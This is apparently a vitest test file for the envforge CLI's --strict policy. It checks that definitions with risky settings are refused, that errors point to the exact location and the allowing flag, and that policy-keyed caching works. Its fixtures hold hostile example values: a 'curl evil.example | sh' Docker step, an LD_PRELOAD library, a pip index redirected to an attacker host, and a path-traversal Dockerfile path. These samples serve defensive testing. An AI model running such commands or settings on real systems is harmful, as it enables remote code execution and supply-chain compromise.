import { spawnSync } from "node:child_process";
import { writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { tempDir } from "../support/engine.js";
import { repoRoot } from "../support/paths.js";
import { inCI, titleWithReason, warnSkip } from "../support/skip.js";
import { makeWheel } from "../support/wheels.js";
import { runCli, runQuick } from "./support.js";

/** Writes a definition (and the files beside it) into a fresh folder; returns the definition's path. */
async function definition(files: Record<string, string>): Promise<{ file: string; cache: string }> {
  const dir = await tempDir("envforge-policy-");
  for (const [name, text] of Object.entries(files)) writeFileSync(path.join(dir, name), text);
  return { file: path.join(dir, "env.yaml"), cache: path.join(dir, "cache") };
}

/**
 * What a stranger could abuse, where it is written, and the flag that would allow it (`with`: what
 * the host allows anyway, so that this abuse is the first thing refused).
 */
const ABUSES: { what: string; files: Record<string, string>; line: number; column: number; field: string; flag: string; allow: string[]; with?: string[] }[] = [
  {
    what: "a variable that changes what code runs",
    files: { "env.yaml": "name: demo\nvariables:\n  LD_PRELOAD: /tmp/evil.so\n" },
    line: 3,
    column: 3,
    field: "variables.LD_PRELOAD",
    flag: "--allow-variable LD_PRELOAD",
    allow: ["--allow-variable", "LD_PRELOAD"],
  },
  {
    what: "custom Docker steps",
    files: { "env.yaml": "docker:\n  baseImage: debian:12\n  steps:\n    - RUN curl evil.example | sh\n" },
    line: 3,
    column: 3,
    field: "docker.steps",
    flag: "--allow-docker-steps",
    allow: ["--allow-docker-steps", "--allow-registry", "docker.io"],
  },
  {
    what: "a Dockerfile of the definition's own",
    files: { "env.yaml": "docker:\n  baseDockerfile: Dockerfile\n", Dockerfile: "FROM debian:12\nRUN true\n" },
    line: 2,
    column: 3,
    field: "docker.baseDockerfile",
    flag: "--allow-docker-steps",
    allow: ["--allow-docker-steps", "--allow-registry=docker.io"],
  },
  {
    what: "a base image from a registry the host did not name",
    files: { "env.yaml": "docker:\n  baseImage: ghcr.io/someone/base:1\n" },
    line: 2,
    column: 14,
    field: "docker.baseImage",
    flag: "--allow-registry ghcr.io",
    allow: ["--allow-registry", "ghcr.io"],
  },
  {
    what: "a build argument that redirects pip",
    files: { "env.yaml": "docker:\n  baseImage: debian:12\n  buildArgs:\n    PIP_INDEX_URL: http://evil.example/simple\n" },
    line: 4,
    column: 5,
    field: "docker.buildArgs.PIP_INDEX_URL",
    flag: "--allow-variable 'PIP_*'",
    allow: ["--allow-variable", "PIP_*"],
    with: ["--allow-registry", "docker.io"],
  },
  {
    what: "a user-managed interpreter (refused whatever the target)",
    files: { "env.yaml": "python:\n  userManaged: true\n  interpreterPath: /opt/any/evil.sh\n" },
    line: 2,
    column: 16,
    field: "python.userManaged",
    flag: "--allow-user-managed",
    allow: ["--allow-user-managed"],
  },
];

describe("envforge --strict: the strict host policy on the command line", () => {
  it.each(ABUSES)("$what: exit 1 naming file:line:column, the field and the flag; fine without --strict and with the flag", async (abuse) => {
    const { file, cache } = await definition(abuse.files);
    const strict = await runCli(["--strict", ...(abuse.with ?? []), "validate", file, "--cache-dir", cache]);
    expect(strict.code, strict.stderr).toBe(1);
    expect(strict.stderr).toContain(`${file}:${abuse.line}:${abuse.column}: error E_POLICY`);
    expect(strict.stderr).toContain(`[${abuse.field}]`);
    expect(strict.stderr).toContain(abuse.flag);
    expect(strict.stderr, "no stack trace").not.toMatch(/\n\s+at .+:\d+:\d+/);

    const json = await runCli(["validate", file, "--strict", ...(abuse.with ?? []), "--json", "--cache-dir", cache]);
    expect(json.code).toBe(1);
    expect(JSON.parse(json.stdout)).toMatchObject({ ok: false, error: { code: "E_POLICY", field: abuse.field, location: { file, line: abuse.line, column: abuse.column } } });

    const plain = await runCli(["validate", file, "--cache-dir", cache]);
    expect(plain.code, plain.stderr).toBe(0);
    const allowed = await runCli(["--strict", ...(abuse.with ?? []), ...abuse.allow, "validate", file, "--cache-dir", cache]);
    expect(allowed.code, allowed.stderr).toBe(0);
  });

  it("hash refuses too (the policy is checked at parse time), and flags may follow the command", async () => {
    const { file, cache } = await definition({ "env.yaml": "docker:\n  baseImage: debian:12\n  steps: ['RUN true']\n" });
    const r = await runCli(["hash", file, "--strict", "--cache-dir", cache]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("--allow-docker-steps");
    expect((await runCli(["hash", file, "--strict", "--allow-docker-steps", "--allow-registry", "docker.io", "--cache-dir", cache])).code).toBe(0);
  });

  it("repeatable and comma-separated list flags; a name denied by a pattern asks for the pattern (exit 1)", async () => {
    const { file, cache } = await definition({ "env.yaml": "variables:\n  LD_PRELOAD: /x.so\n  PYTHONPATH: /y\n" });
    const both = ["--allow-variable", "LD_PRELOAD,PYTHONPATH"];
    expect((await runCli(["--strict", ...both, "validate", file, "--cache-dir", cache])).code).toBe(0);
    const repeated = ["--allow-variable", "LD_PRELOAD", "--allow-variable=PYTHONPATH"];
    expect((await runCli(["--strict", ...repeated, "validate", file, "--cache-dir", cache])).code).toBe(0);
    const one = await runCli(["--strict", "--allow-variable", "LD_PRELOAD", "validate", file, "--cache-dir", cache]);
    expect(one.code).toBe(1);
    expect(one.stderr).toContain("[variables.PYTHONPATH]");
    const byPattern = await runCli(["--strict", "--allow-variable", "PIP_INDEX_URL", "validate", file, "--cache-dir", cache]);
    expect(byPattern.code).toBe(1);
    expect(byPattern.stderr).toContain("--allow-variable 'PIP_*'");
  });

  it("without --strict nothing a user's own definition does is refused, except files outside its folder (as before)", async () => {
    const { file, cache } = await definition({
      "env.yaml": "variables:\n  PATH: /opt/bin\ndocker:\n  baseImage: ghcr.io/x/y:1\n  steps: ['RUN true']\n  buildArgs: {PIP_INDEX_URL: 'http://i.example/simple'}\n",
    });
    expect((await runCli(["validate", file, "--cache-dir", cache])).code).toBe(0);
    const outside = await definition({ "env.yaml": "docker:\n  baseDockerfile: ../../etc/hostname\n" });
    const r = await runCli(["validate", outside.file, "--cache-dir", outside.cache]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("E_FILE_OUTSIDE_ROOT");
  });
});

const probe = spawnSync("python3", ["-c", "import venv, ensurepip"], { encoding: "utf8" });
const reason = probe.status === 0 ? undefined : "python3 with the venv and ensurepip modules is not installed";
if (reason && inCI) throw new Error(`the --strict quick-path tests need ${reason.replace(" is not installed", "")} in CI`);
warnSkip("--strict quick-path builds", reason);

const BIN = path.join(repoRoot, "packages", "cli", "bin", "envforge.js");
const bin = (args: string[]) => spawnSync(process.execPath, [BIN, ...args], { encoding: "utf8", env: { ...process.env, NO_COLOR: "1", ENVFORGE_DEBUG: "" } });

describe.skipIf(reason)(titleWithReason("the quick path under --strict: keyed by the whole policy", reason), () => {
  it("a venv built without --strict is not a cache hit for `--strict build` of a definition the strict policy refuses", { timeout: 180_000 }, async () => {
    const { file, cache } = await definition({ "env.yaml": "python:\n  pip:\n    - envforge-strict==1.0.0\nvariables:\n  LD_PRELOAD: /tmp/evil.so\n" });
    const wheels = path.join(path.dirname(file), "wheels");
    await makeWheel(wheels, { name: "envforge-strict", version: "1.0.0" });
    const build = ["build", file, "--cache-dir", cache, "--find-links", wheels, "--no-index"];

    const first = bin(build);
    expect(first.status, first.stderr).toBe(0);
    const again = bin(build);
    expect(again.status).toBe(0);
    expect(again.stderr).toContain("cache hit");
    expect(await runQuick(build)).toBeDefined(); // the memo answers the policy it was recorded under

    expect(await runQuick(["--strict", ...build])).toBeUndefined();
    for (const args of [["--strict", ...build], [...build, "--strict"]]) {
      const strict = bin(args);
      expect(strict.status, strict.stdout).toBe(1);
      expect(strict.stderr).toContain(`${file}:5:3: error E_POLICY`);
      expect(strict.stderr).toContain("--allow-variable LD_PRELOAD");
      expect(strict.stderr).not.toContain("cache hit");
      expect(strict.stdout).toBe("");
    }
  });

  it("a definition the strict policy accepts is answered by the quick path under --strict once a strict run recorded it", { timeout: 180_000 }, async () => {
    const { file, cache } = await definition({ "env.yaml": "python:\n  pip:\n    - envforge-strict==1.0.0\nvariables:\n  GREETING: hello\n" });
    const wheels = path.join(path.dirname(file), "wheels");
    await makeWheel(wheels, { name: "envforge-strict", version: "1.0.0" });
    const build = ["--strict", "build", file, "--cache-dir", cache, "--find-links", wheels, "--no-index"];
    expect(bin(build.slice(1)).status).toBe(0); // built without --strict: that memo is not the strict one
    expect(await runQuick(build)).toBeUndefined();
    const strict = bin(build);
    expect(strict.status, strict.stderr).toBe(0);
    expect(strict.stderr).toContain("cache hit"); // the full CLI found the same entry
    const quick = await runQuick(build);
    expect(quick?.code).toBe(0);
    expect(quick?.stderr).toContain("cache hit");
    // Another strict policy (one more allowance) is another key.
    expect(await runQuick([...build, "--allow-docker-steps"])).toBeUndefined();
  });
});
